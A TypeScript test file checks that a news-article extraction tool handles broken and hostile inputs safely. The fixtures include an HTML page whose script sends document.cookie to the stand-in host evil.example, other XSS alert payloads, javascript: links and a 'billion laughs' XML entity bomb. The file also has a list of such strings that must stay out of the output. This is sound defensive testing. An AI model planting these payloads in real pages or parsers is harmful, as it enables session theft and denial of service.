/**
 * A corpus of broken and hostile files, built in a temp folder, run through
 * the real command end to end. Each bad file gives an `errors` row or a
 * flagged article with a clear reason; every good article beside them is
 * still processed; the exit code tells whether errors occurred (3), and
 * `--strict` turns them into failure (1, nothing written).
 */
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { ndjson, runCli, tempDir, writeCorpus } from './support/corpus.ts';

const GOOD = {
  'good/flood.txt': 'River bursts its banks\nFloodwaters forced about 3,000 people from their homes on Sunday, the regional governor said.\nEmergency crews rescued 140 residents by boat, officials said.\n',
  'good/vote.txt': 'Turnout falls in local elections\nTurnout in the local elections fell to 38%, down from 45% four years ago, the electoral commission said on Friday.\n',
};

function utf16le(text: string): Uint8Array {
  const body = Buffer.from(text, 'utf16le');
  return new Uint8Array([0xff, 0xfe, ...body]);
}

const HOSTILE_HTML = `<!doctype html><html><head><title>Bridge reopens</title>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('onload')"><iframe src="https://evil.example/frame"></iframe>
<article><h1>Bridge reopens after repairs</h1>
<p onclick="alert('click')">The bridge reopened to traffic on Wednesday after 14 months of repairs costing $85 million, the transport department said.</p>
<p>Officials said about 60,000 vehicles a day are expected to use it. <a href="javascript:alert('link')">Read more</a></p>
<img src="x" onerror="alert('img')"><svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<p>The mayor said the reopening would cut commutes by 20 minutes.</p></article>
<script type="text/javascript">alert('tail')</script></body></html>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>`;

function deepHtml(depth: number): string {
  return `<!doctype html><html><head><title>Deep page</title></head><body>${'<div>'.repeat(depth)}<p>Storm damage reached an estimated $2 billion, insurers said on Tuesday.</p>${'</div>'.repeat(depth)}</body></html>`;
}

/** 50 MB of article text: far past any real story. */
function hugeArticle(): string {
  const para = 'Officials said the count rose again on Monday, with 12 more cases reported in the northern districts.\n';
  return 'Very long page\n' + para.repeat(Math.ceil((50 * 1024 * 1024) / para.length));
}

const BAD_FILES: Array<[string, string | Uint8Array]> = [
  ['bad/empty.txt', ''],
  ['bad/nul.txt', 'Fire crews said 3 homes\u0000 burned.\n'],
  ['bad/invalid-utf8.txt', new Uint8Array([0x46, 0x69, 0x72, 0x65, 0x20, 0xc3, 0x28, 0xff, 0xfe, 0x0a])],
  ['bad/utf16.txt', utf16le('Port traffic slows\nCargo volumes at the port fell 12% in June from a year earlier, the port authority said.\n')],
  ['bad/huge.txt', hugeArticle()],
  ['bad/deep.html', deepHtml(100_000)],
  ['bad/hostile.html', HOSTILE_HTML],
  ['bad/bomb.rss', BILLION_LAUGHS],
  ['dup/copy-1.txt', 'Miners rescued\nAll 27 miners trapped underground for four days were rescued on Saturday, the mining company said.\n'],
  ['dup/copy-2.txt', 'Miners rescued\nAll 27 miners trapped underground for four days were rescued on Saturday, the mining company said.\n'],
];

type Row = Record<string, unknown>;

describe('bad files end to end', () => {
  let corpus: string;
  let out: string;
  let run: ReturnType<typeof runCli>;
  let errors: Row[];
  let articles: Row[];
  const errorsFor = (file: string) => errors.filter((e) => e.file === file);
  const article = (file: string) => articles.find((a) => a.file === file);

  beforeAll(() => {
    corpus = tempDir('bad');
    const files: Array<[string, string | Uint8Array]> = [...Object.entries(GOOD), ...BAD_FILES];
    const manifest = [...files.map(([file]) => ({ file })), { file: 'gone/missing.txt', outlet: 'Nowhere Daily' }];
    writeCorpus(corpus, [...files, ['manifest.json', JSON.stringify(manifest)]]);
    out = tempDir('bad-out');
    run = runCli(['extract', corpus, '--out', out, '--format', 'ndjson,arrow', '--quiet']);
    if (run.status !== 3 && run.status !== 0) throw new Error(`exit ${run.status}\n${run.stderr}`);
    errors = ndjson(out, 'errors');
    articles = ndjson(out, 'articles');
  }, 300_000);

  it('exits 3: tables written, but some inputs gave error rows', () => {
    expect(run.status).toBe(3);
    expect(existsSync(join(out, 'articles.arrow'))).toBe(true);
  });

  it('still processes every good article', () => {
    for (const file of Object.keys(GOOD)) {
      const a = article(file);
      expect(a, file).toBeDefined();
      expect(a!.text as string).toMatch(/said/);
    }
  });

  it('refuses empty, binary and invalid UTF-8 files with a clear reason', () => {
    expect(errorsFor('bad/empty.txt').map((e) => e.reason).join()).toMatch(/empty/i);
    expect(errorsFor('bad/nul.txt').map((e) => e.reason).join()).toMatch(/binary|NUL/i);
    expect(errorsFor('bad/invalid-utf8.txt').map((e) => e.reason).join()).toMatch(/UTF-8/i);
    for (const f of ['bad/empty.txt', 'bad/nul.txt', 'bad/invalid-utf8.txt']) {
      expect(article(f), f).toBeUndefined();
      expect(errorsFor(f).some((e) => e.severity === 'error')).toBe(true);
    }
  });

  it('decodes UTF-16 with a byte-order mark', () => {
    expect(article('bad/utf16.txt')?.text).toMatch(/Cargo volumes at the port fell 12%/);
  });

  it('refuses or truncates a 50 MB article, with a reason', () => {
    const rows = errorsFor('bad/huge.txt');
    const a = article('bad/huge.txt');
    if (a) {
      expect(a.flags as string[]).toContain('truncated');
      expect((a.text as string).length).toBeLessThan(5_000_000);
    } else {
      expect(rows.some((e) => e.severity === 'error')).toBe(true);
    }
    expect(rows.map((e) => e.reason).join(), 'an errors row explains it').toMatch(/MiB|MB|limit|truncat|long/i);
  });

  it('reads deeply nested HTML, flattening it', () => {
    const a = article('bad/deep.html');
    expect(a?.text).toMatch(/Storm damage reached an estimated \$2 billion/);
    expect(a?.flags as string[]).toContain('html_flattened');
  });

  it('keeps scripts, frames, handlers and javascript: links out of the text', () => {
    const a = article('bad/hostile.html');
    expect(a?.text).toMatch(/The bridge reopened to traffic on Wednesday/);
    expect(a?.text).toMatch(/cut commutes by 20 minutes/);
    const everything = JSON.stringify(articles) + JSON.stringify(ndjson(out, 'quotes')) + JSON.stringify(ndjson(out, 'claims'));
    for (const bad of ['alert(', 'document.cookie', 'evil.example', 'javascript:', 'onerror', 'onload', '<script', '<iframe']) expect(everything).not.toContain(bad);
  });

  it('refuses an XML entity bomb quickly, with a reason', () => {
    const rows = errorsFor('bad/bomb.rss');
    expect(rows.some((e) => e.severity === 'error')).toBe(true);
    expect(rows.map((e) => e.reason).join()).toMatch(/entit/i);
    expect(article('bad/bomb.rss')).toBeUndefined();
  });

  it('flags a duplicate article', () => {
    const flagged = ['dup/copy-1.txt', 'dup/copy-2.txt'].filter((f) => (article(f)?.flags as string[] | undefined)?.some((x) => /duplicate/.test(x)));
    const rows = [...errorsFor('dup/copy-1.txt'), ...errorsFor('dup/copy-2.txt')];
    expect(flagged.length + rows.length).toBeGreaterThan(0);
    if (rows.length) expect(rows.map((e) => e.reason).join()).toMatch(/duplicate|same/i);
    // the first copy stays a normal article
    expect(article('dup/copy-1.txt')?.text).toMatch(/All 27 miners/);
  });

  it('reports a manifest entry whose file is missing', () => {
    const rows = errorsFor('gone/missing.txt');
    expect(rows.length).toBe(1);
    expect(rows[0].reason).toMatch(/no such file|not exist|missing|not found/i);
  });

  it('--strict fails with exit 1 and writes nothing', () => {
    const strictOut = join(tempDir('bad-strict'), 'out');
    const r = runCli(['extract', corpus, '--out', strictOut, '--strict', '--quiet']);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/error/);
    expect(!existsSync(strictOut) || readdirSync(strictOut).length === 0).toBe(true);
  }, 120_000);
});

describe('manifest problems and clean corpora', () => {
  it('reports a malformed manifest and still reads the files', () => {
    const corpus = tempDir('badmanifest');
    writeCorpus(corpus, [...Object.entries(GOOD), ['manifest.json', '[{"file": "good/flood.txt",, }']]);
    const out = tempDir('badmanifest-out');
    const r = runCli(['extract', corpus, '--out', out, '--format', 'ndjson', '--quiet']);
    expect(r.status).toBe(3);
    const errors = ndjson(out, 'errors');
    expect(errors.some((e) => e.stage === 'manifest' && /JSON|manifest/i.test(e.reason as string))).toBe(true);
    const files = ndjson(out, 'articles').map((a) => a.file);
    for (const f of Object.keys(GOOD)) expect(files).toContain(f);
  }, 120_000);

  it('exits 0 with an empty errors table on a clean corpus', () => {
    const corpus = tempDir('clean');
    writeCorpus(corpus, Object.entries(GOOD));
    const out = tempDir('clean-out');
    const r = runCli(['extract', corpus, '--out', out, '--format', 'ndjson', '--quiet']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(ndjson(out, 'errors')).toEqual([]);
    const strict = runCli(['extract', corpus, '--out', tempDir('clean-strict'), '--strict', '--quiet']);
    expect(strict.status).toBe(0);
  }, 120_000);
});
